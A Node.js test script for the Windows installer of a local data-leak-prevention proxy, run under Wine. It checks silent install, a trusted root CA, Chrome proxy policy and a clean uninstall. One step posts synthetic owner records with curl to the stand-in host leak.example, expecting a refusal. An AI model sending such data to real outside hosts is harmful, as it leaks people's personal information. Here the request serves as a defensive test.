#!/usr/bin/env node
// The Windows setup program under Wine (64 bit, no display): installed silently, the service running the real agent with the
// official Node, a leak refused, uninstalled silently, the registry compared with what it was. What Wine has no real
// counterpart of (icacls, netsh, PowerShell, the firewall) is not shown by this: effects are looked at, not exit codes.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { until } from './container.mjs';

const repository = fileURLToPath(new URL('../..', import.meta.url));
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'menshen-setup-'));
const prefix = path.join(work, 'prefix');
const env = { ...process.env, WINEPREFIX: prefix, WINEARCH: 'win64', WINEDEBUG: '-all', DISPLAY: '' };
const drive = path.join(prefix, 'drive_c');
const wine = (...args) =>
  spawnSync('wine', args, { env, stdio: ['ignore', 'pipe', 'ignore'], encoding: 'utf8', timeout: 900_000 });
const curl = (...args) => spawnSync('curl', ['-s', '-m', '60', ...args], { encoding: 'utf8' });
const OWNERS = Array.from(
  { length: 8 },
  (_, at) => `馨佳园十一街坊，1${at}号120${at}，74平，378万，王先生，1381234567${at}\n`,
);

/** Keys and values of the machine's registry, by name; without the stores Wine fills when they are first opened. */
function registry() {
  const text = fs.readFileSync(exported(), 'utf16le');
  const values = new Map();
  let key = '';
  for (const line of text.replaceAll('\\\r\n', '').split('\r\n')) {
    if (line.startsWith('[')) {
      key = line.slice(1, -1);
      values.set(key, '');
    } else if (line !== '') values.set(`${key} ${line.slice(0, line.indexOf('='))}`, line);
  }
  return new Map([...values].filter(([name]) => !/\\SystemCertificates(\\|$)/i.test(name)));
}

function exported() {
  const file = path.join(drive, 'export.reg');
  fs.rmSync(file, { force: true });
  wine('reg', 'export', 'HKLM\\SOFTWARE', 'C:\\export.reg', '/y');
  return file;
}

const roots = () => {
  fs.readFileSync(exported(), 'utf16le');
  const text = fs.readFileSync(path.join(drive, 'export.reg'), 'utf16le');
  return text.match(/SystemCertificates\\Root\\Certificates\\[0-9A-F]{40}\]/gi) ?? [];
};

const steps = [];
const step = (name, run) => steps.push({ name, run });
let setup = process.argv[2];
let before;
let awake;

step('builds the setup program', () => {
  if (setup === undefined) {
    const args = ['build/package.mjs', '--only', 'setup', '--out', work];
    const built = spawnSync(process.execPath, args, {
      cwd: repository,
      encoding: 'utf8',
      env: { ...process.env, MENSHEN_SETUP_COMPRESSOR: 'zlib' },
    });
    assert.equal(built.status, 0, built.stderr);
    setup = path.join(
      work,
      fs.readdirSync(work).find((name) => name.endsWith('.exe')),
    );
  }
});

step('makes a Windows', () => {
  wine('wineboot', '-i');
  wine('winecfg', '-v', 'win10');
  fs.copyFileSync(setup, path.join(drive, 'setup.exe'));
  before = registry();
  // Wine ends services when no other process of the session is left.
  awake = spawn('wine', ['ping', '-n', '3000', '127.0.0.1'], { env, stdio: 'ignore' });
});

step('installs silently: settings, root, service', async () => {
  const { status } = wine('C:\\setup.exe', '/S');
  assert.equal(status, 0, log('menshen-install.log'));
  await until(() => curl('http://127.0.0.1:8877/health').stdout.includes('"ok":true'), 'the service to answer');
  const now = registry();
  const chrome = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Google\\Chrome "ProxySettings"';
  assert.match(now.get(chrome) ?? '', /ProxyPacMandatory/);
  const sha1 = spawnSync('openssl', ['x509', '-noout', '-fingerprint', '-sha1'], {
    input: curl('http://127.0.0.1:8877/ca.pem').stdout,
    encoding: 'utf8',
  });
  const fingerprint = sha1.stdout.trim().split('=')[1].replaceAll(':', '');
  assert.ok(
    roots().some((name) => name.toUpperCase().includes(fingerprint)),
    'the CA is in the root store',
  );
});

step('the service refuses a leak', () => {
  const got = curl(
    '-x',
    'http://127.0.0.1:8877',
    '-o',
    '/dev/null',
    '-w',
    '%{http_code}',
    '--data-binary',
    OWNERS.join(''),
    'http://leak.example/x',
  );
  assert.equal(got.stdout, '403');
});

step('uninstalls silently: no service, no root, the registry as it was', async () => {
  const uninstall = 'C:\\Program Files\\Menshen\\uninstall.exe';
  const { status } = wine(uninstall, '/S', '/PURGE', '_?=C:\\Program Files\\Menshen');
  assert.equal(status, 0, log('menshen-uninstall.log'));
  assert.equal(curl('http://127.0.0.1:8877/health').status, 7, 'nobody listens');
  assert.doesNotMatch(wine('sc', 'query', 'Menshen').stdout, /RUNNING/);
  const now = registry();
  const changed = [...new Set([...before.keys(), ...now.keys()])].filter((name) => before.get(name) !== now.get(name));
  assert.deepEqual(
    changed.map((name) => `${name}: ${before.get(name)} -> ${now.get(name)}`),
    [],
  );
  const left = path.join(drive, 'Program Files/Menshen');
  assert.deepEqual(fs.existsSync(left) ? fs.readdirSync(left) : [], []);
});

function log(name) {
  const found = spawnSync('find', [drive, '-name', name], { encoding: 'utf8' }).stdout.trim();
  return found === '' ? 'no log' : fs.readFileSync(found.split('\n')[0], 'utf8');
}

let failed = false;
try {
  for (const { name, run } of steps) {
    const began = Date.now();
    await run();
    process.stdout.write(`ok - ${name} (${Math.round((Date.now() - began) / 1000)} s)\n`);
  }
} catch (error) {
  failed = true;
  process.stdout.write(`not ok - ${error.stack}\n${log('keeper.log')}`);
} finally {
  awake?.kill('SIGKILL');
  spawnSync('wineserver', ['-k'], { env });
  fs.rmSync(work, { recursive: true, force: true });
}
process.exitCode = failed ? 1 : 0;
